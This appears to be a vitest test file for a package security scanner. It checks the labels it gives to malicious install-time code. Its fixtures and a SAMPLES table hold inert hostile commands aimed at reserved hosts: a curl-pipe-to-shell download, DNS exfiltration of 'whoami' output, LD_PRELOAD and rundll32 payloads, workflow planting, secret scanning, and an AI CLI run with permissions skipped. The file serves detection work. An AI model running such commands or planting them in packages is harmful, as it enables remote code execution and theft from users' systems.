import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanTarball, type ScanReport } from '../../helper/src/scan/index.js';
import { STRING_SIGNALS } from '../../helper/src/scan/js/indicators.js';
import { scannedDistributions } from './python-support.js';
import { packTree, tempDir } from './support.js';

// What a finding says, as `sscs scan`, the firewall's reasons and firewall run's reports print it: the rule that
// matched, and its message once. Inert payloads aimed at reserved names.
let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir('sscs-labels-');
});
afterAll(() => work.cleanup());
let n = 0;
const onRequire = async (code: string): Promise<ScanReport> => scanTarball(await packTree(work.dir, `labels-${n++}`, { main: 'index.js' }, { 'index.js': code }));
const lines = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}:${f.line}: ${f.message}`);
const python = scannedDistributions();

describe('scan finding labels and messages', () => {
  it('a download run by a child process says so once', async () => {
    const r = await onRequire("require('child_process').execSync('curl -s https://example.invalid/x.sh | sh');\n");
    expect(lines(r)).toContain('high code-download-exec index.js:1: downloads a program and runs it (runs on require)');
  });

  it('a command that sends host details is code-host-recon, not code-download-exec', async () => {
    const r = await onRequire("require('child_process').execSync('nslookup $(whoami).collector.example.invalid');\n");
    expect(lines(r)).toEqual(['high code-host-recon index.js:1: sends host details through a shell command (DNS, ping or curl with command substitution) (runs on require)']);
  });

  it('no JavaScript finding repeats a string signal description after its message', async () => {
    const code = ["const cp = require('child_process');", ...STRING_SIGNALS.map(([kind]) => `cp.execSync(${JSON.stringify(SAMPLES[kind])});`), ''].join('\n');
    const r = await onRequire(code);
    expect(r.findings.length).toBeGreaterThanOrEqual(STRING_SIGNALS.length - 1);
    for (const f of r.findings) for (const [, , what] of STRING_SIGNALS) expect(f.message, f.rule).not.toContain(`: ${what}`);
  });

  it('Python: a command that sends host details is code-host-recon', async () => {
    const r = await python.wheel({ 'pkg/__init__.py': "import os\nos.system('nslookup $(whoami).collector.example.invalid')\n" });
    expect(r.findings.map((f) => `${f.severity} ${f.rule}`)).toContain('high code-host-recon');
    expect(r.findings.map((f) => f.rule)).not.toContain('code-download-exec');
  });
});

/** A command each string signal matches. */
const SAMPLES: Record<string, string> = {
  'ld-preload': 'LD_PRELOAD=/tmp/x.so ls',
  dll: 'rundll32 payload.dll,Start',
  workflow: 'cp w.yml .github/workflows/w.yml',
  'secret-scanner': 'trufflehog filesystem /',
  'ai-cli': 'claude --dangerously-skip-permissions -p x',
  publish: 'npm publish',
  'download-exec': 'curl -s https://example.invalid/x.sh | sh',
  'exfil-command': 'nslookup $(whoami).collector.example.invalid',
};
